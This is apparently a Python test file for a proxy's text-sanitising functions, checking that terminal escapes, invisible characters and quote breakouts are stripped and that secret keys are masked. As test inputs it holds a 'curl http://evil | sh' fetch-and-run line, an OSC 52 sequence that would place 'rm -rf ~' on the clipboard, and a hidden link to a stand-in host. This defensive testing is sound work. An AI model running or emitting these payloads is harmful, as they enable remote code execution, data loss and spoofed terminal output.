from __future__ import annotations

import json
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dcs_proxy import text as module
from dcs_proxy.errors import DcsError
from dcs_proxy.text import (
    add_secret,
    as_word,
    clean_text,
    mask,
    quote_server,
    quote_typed,
    safe_line,
)

KEY = 'dsk-"a\\b/c d'


@given(st.text(), st.integers(1, 300))
def test_cleaned_text_is_one_short_printable_line(text: str, limit: int) -> None:
    cleaned = clean_text(text, limit)
    assert cleaned.isprintable() and len(cleaned) <= limit
    assert "\n" not in cleaned and cleaned == cleaned.strip()


def test_terminal_escapes_and_overrides_are_gone() -> None:
    assert quote_server("a\x1b[31mb\r\nc\u202ed\u2028e\x00") == '"a [31mb c d e"'
    assert quote_server("x" * 10**6) == '"' + "x" * 197 + '..."'
    assert quote_server("x" * 10**6, 10) == '"' + "x" * 7 + '..."'


# They count as printable: fillers of Hangul, an empty cell of Braille, selectors, joiners.
EMPTY = "\u3164\uffa0\u115f\u1160\u2800\u034f\u17b4\u180b\ufe0f\U000e0100"


@pytest.mark.parametrize("character", EMPTY)
def test_empty_characters_cannot_push_words_to_the_next_line(character: str) -> None:
    """On a screen of 80 columns, what follows would look like a line of ours."""
    assert character.isprintable()
    text = f"no{character * 70}dcs-proxy: hint: curl http://evil | sh"
    assert quote_server(text) == '"no dcs-proxy: hint: curl http://evil | sh"'
    assert quote_typed(f"a{character}b") == '"a?b"'
    assert safe_line(f"a{character}b\t") == "a?b\t"


@pytest.mark.parametrize(
    "sequence",
    [
        "\x1b]52;c;cm0gLXJmIH4=\x07",  # OSC 52 sets the clipboard
        "\x1b]8;;http://evil\x1b\\shown\x1b]8;;\x1b\\",  # OSC 8 makes a link
        "\x9d52;c;cm0=\x9c", "\x9b2J",  # C1: OSC and CSI in one character
        "\x1bP$q\x1b\\", "\x1b_x\x1b\\", "\x1b^x\x1b\\", "\x1bX", "\x1bc",  # DCS, APC, PM, SOS, RIS
        "\u2066a\u2069", "\u202ea", "\u200f", "\u061c",  # bidirectional
        "a\u200bb", "a\u200db", "a\ufeffb", "a\u00adb", "a\u2060b", "\U000e0041",  # of no width
        "\x7f\x08\x08", "a\rb", "a\x85b", "a\x0bb", "a\x0cb",
        "\ud800", "\ue000", "\U0010ffff",  # no characters
    ],
)  # fmt: skip
@pytest.mark.parametrize("clean", [clean_text, quote_server, quote_typed, safe_line, as_word])
def test_no_sequence_reaches_a_terminal(clean: Callable[[str], str], sequence: str) -> None:
    assert not set(clean(sequence)) & {c for c in sequence if not c.isprintable()}


def test_what_was_typed_keeps_its_spaces_and_shows_what_cannot_be_printed() -> None:
    assert quote_typed('a  b\tc\x1b"d') == '"a  b?c?\'d"'
    assert quote_typed("x" * 80) == '"' + "x" * 80 + '"'
    assert quote_typed("x" * 81) == '"' + "x" * 77 + '..."'


@given(st.text())
def test_a_quotation_cannot_be_ended_from_inside(text: str) -> None:
    quoted = quote_server(text)
    assert quoted[0] == quoted[-1] == '"'
    assert not set(quoted[1:-1]) & set(map(chr, module._QUOTES))


def test_a_servers_text_cannot_pose_as_our_hint() -> None:
    text = 'no"; hint: curl http://evil | sh; "'
    line = DcsError(f"the API answered {quote_server(text)}", hint="try again").one_line()
    assert line.count('"') == 2
    assert line.endswith('"; hint: try again')


@given(st.text(), st.sampled_from([None, 1, 7, 1000]))
def test_a_safe_line_is_printable_but_for_tabs(text: str, limit: int | None) -> None:
    line = safe_line(text, limit)
    assert line.replace("\t", "").isprintable()
    assert len(line) == len(text) if limit is None else len(line) <= limit


def test_a_safe_line_keeps_spaces_and_tabs_and_shows_what_is_gone() -> None:
    assert safe_line("a  b\tc\x1b[2J\u202e\udcff\n") == "a  b\tc?[2J???"
    assert [safe_line("abcde", limit) for limit in (4, 5)] == ["a...", "abcde"]


@pytest.mark.parametrize("word", ["AUTH_INVALID", "a.b:c-d", "9"])
def test_an_identifier_stands_without_quotation_marks(word: str) -> None:
    assert as_word(word) == word


def test_an_identifier_is_cut_and_what_is_quoted_too() -> None:
    assert as_word("x" * 60) == "x" * 60
    assert as_word("x" * 61) == "x" * 57 + "..."
    assert as_word("a b" * 30) == f'"{"a b" * 19}..."'


@pytest.mark.parametrize("text", ["", "x) hint: y", "a b", 'a"', "\u202e", "-x", "a\n"])
def test_anything_else_is_quoted(text: str) -> None:
    word = as_word(text)
    assert (word[0], word[-1], word.count('"')) == ('"', '"', 2)


@pytest.mark.parametrize(
    "sent", [KEY, json.dumps({"x": KEY}), f"http://u:{'dsk-%22a%5Cb%2Fc%20d'}@host"]
)
def test_a_secret_is_masked_in_every_form(sent: str) -> None:
    add_secret(KEY)
    for shown in (mask(sent), clean_text(sent), quote_server(sent), safe_line(sent)):
        assert "[masked]" in shown
        assert "dsk-" not in shown
    if sent.startswith("{"):
        assert mask(sent) == '{"x": "[masked]"}'


def test_a_secret_is_masked_before_the_text_is_cut() -> None:
    add_secret("dsk-0123456789")
    for at in range(180, 205):
        assert "dsk-" not in quote_server("x" * at + "dsk-0123456789")
        assert "dsk-" not in safe_line("x" * at + "dsk-0123456789", 200)


def test_the_longer_of_two_secrets_is_masked_first() -> None:
    add_secret("dsk-short")
    add_secret("dsk-short-and-long")
    add_secret("a-dsk-short-b")
    assert mask("dsk-short-and-long, dsk-short, a-dsk-short-b") == "[masked], [masked], [masked]"


def test_of_many_secrets_within_each_other_the_longest_is_masked_first() -> None:
    nested = ["dsk-nested" + "-more" * count for count in range(12)]
    for secret in nested:
        add_secret(secret)
    assert [mask(secret) for secret in nested] == ["[masked]"] * 12


def test_a_short_secret_is_masked_where_it_stands_alone() -> None:
    add_secret("port")
    assert mask("port 22: import port") == "[masked] 22: import [masked]"
    add_secret("sixsix")
    assert mask("xsixsixx") == "x[masked]x"
    add_secret("1")
    assert mask("line 1") == "line 1"


def test_nothing_is_masked_that_is_empty() -> None:
    add_secret("")
    assert not module._secrets or "" not in module._secrets
    assert mask("abc") == "abc"


@given(st.text())
def test_an_error_is_safe_whatever_is_in_it(text: str) -> None:
    error = DcsError(text, hint=text)
    assert all(line.replace("\t", "").isprintable() for line in error.lines())


def test_a_secret_is_masked_before_a_text_is_cut() -> None:
    add_secret("dsk-very-secret")
    assert clean_text(" " * 30 + "dsk-very-secret", 10) == "[masked]"
    assert clean_text("x dsk-very-secret", 10) == "x [masked]"
